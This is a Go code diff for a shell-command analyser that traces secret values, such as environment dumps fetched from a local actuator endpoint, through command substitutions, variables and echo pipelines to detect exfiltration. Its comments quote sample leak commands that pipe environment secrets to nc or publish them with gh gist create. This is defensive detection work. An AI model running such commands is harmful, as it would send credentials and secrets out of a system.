@@ -64,6 +64,9 @@ func (w *walker) redirIn(r *syntax.Redirect, sc *scope) source {
 	case syntax.WordHdoc:
 		s, ok := w.c.literal(sc, r.Word)
 		if !ok {
+			if out := w.substOutput(r.Word, sc); out.kind == srcSecret { // gh gist create - <<< "$(curl -s localhost:8080/actuator/env)"
+				return out
+			}
 			if v := secretIn(arg{src: wordSource(sc.src, r.Word)}); v != "" {
 				return source{kind: srcPipe, values: "the value of " + v} // tee cfg <<< "password: $DB_PASSWORD"
 			}
@@ -94,6 +97,92 @@ func (w *walker) redirIn(r *syntax.Redirect, sc *scope) source {
 		return source{kind: srcFile}
 	}
 	return source{}
+}
+
+// substOutput is what a word made of one command substitution
+// ("$(curl -s localhost:8080/actuator/env | base64 -w0)") prints: its
+// pipeline's last stage as describe tells it, each stage reading the one
+// before. Any other word gives srcNone.
+func (w *walker) substOutput(word *syntax.Word, sc *scope) source {
+	if word == nil || len(word.Parts) != 1 {
+		return source{}
+	}
+	part := word.Parts[0]
+	if dq, ok := part.(*syntax.DblQuoted); ok && len(dq.Parts) == 1 {
+		part = dq.Parts[0]
+	}
+	cs, ok := part.(*syntax.CmdSubst)
+	if !ok || len(cs.Stmts) != 1 {
+		return source{}
+	}
+	var stages []*syntax.Stmt
+	var flat func(st *syntax.Stmt)
+	flat = func(st *syntax.Stmt) {
+		if b, ok := st.Cmd.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) {
+			flat(b.X)
+			flat(b.Y)
+			return
+		}
+		stages = append(stages, st)
+	}
+	flat(cs.Stmts[0])
+	out := source{}
+	for _, st := range stages {
+		out = w.describe(st, sc, out)
+	}
+	return out
+}
+
+// taint records the variables an assignment fills with a secret source's
+// output (x=$(curl -s localhost:8080/actuator/env)), for a sender of the
+// variable to be judged as a sender of the secret (taintedRef).
+func (w *walker) taint(name string, value *syntax.Word, sc *scope) {
+	if value == nil || !holds(value, isSubst) {
+		if w.c.secretVars[name] != "" {
+			delete(w.c.secretVars, name) // x=done: no longer the secret
+		}
+		return
+	}
+	if out := w.substOutput(value, sc); out.kind == srcSecret && !out.named {
+		if w.c.secretVars == nil {
+			w.c.secretVars = map[string]string{}
+		}
+		what := out.text
+		if what == "" {
+			what = "the environment"
+		}
+		w.c.secretVars[name] = what
+	}
+}
+
+// taintedRef says which secret a word sends through a variable that
+// taint recorded ("t=$x": the answer of …), or "".
+func (c *classifier) taintedRef(src string) string {
+	if len(c.secretVars) == 0 || !strings.Contains(src, "$") {
+		return ""
+	}
+	for name, what := range c.secretVars {
+		for i := 0; i < len(src); i++ {
+			j := strings.Index(src[i:], "$"+name)
+			if j < 0 {
+				j = strings.Index(src[i:], "${"+name)
+				if j < 0 {
+					break
+				}
+				j++
+			}
+			end := i + j + 1 + len(name)
+			if end >= len(src) || !isNameByte(src[end]) {
+				return "$" + name + ", " + what
+			}
+			i += j
+		}
+	}
+	return ""
+}
+
+func isNameByte(b byte) bool {
+	return b == '_' || b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9'
 }
 
 // passThrough are filters that, without file operands, pass their input's
@@ -274,6 +363,10 @@ func (w *walker) printed(st *syntax.Stmt, sc *scope, prev source) source {
 		return source{kind: srcSecret, text: envDump}
 	case printsEnv(name, args[1:]): // python3 -c 'print(dict(os.environ))' | nc …: the values, as env's
 		return source{kind: srcSecret, text: envDump}
+	case (name == "echo" || name == "printf") && slices.ContainsFunc(args[1:], func(a arg) bool {
+		return !a.ok && (secretSubst.MatchString(a.src) || w.c.taintedRef(a.src) != "")
+	}): // echo "$(curl -s localhost:8080/actuator/env)" | nc …, echo "$x" | nc …
+		return source{kind: srcSecret, text: "the output of " + name}
 	case name == "echo":
 		vals, ok := strs(args[1:])
 		if !ok {
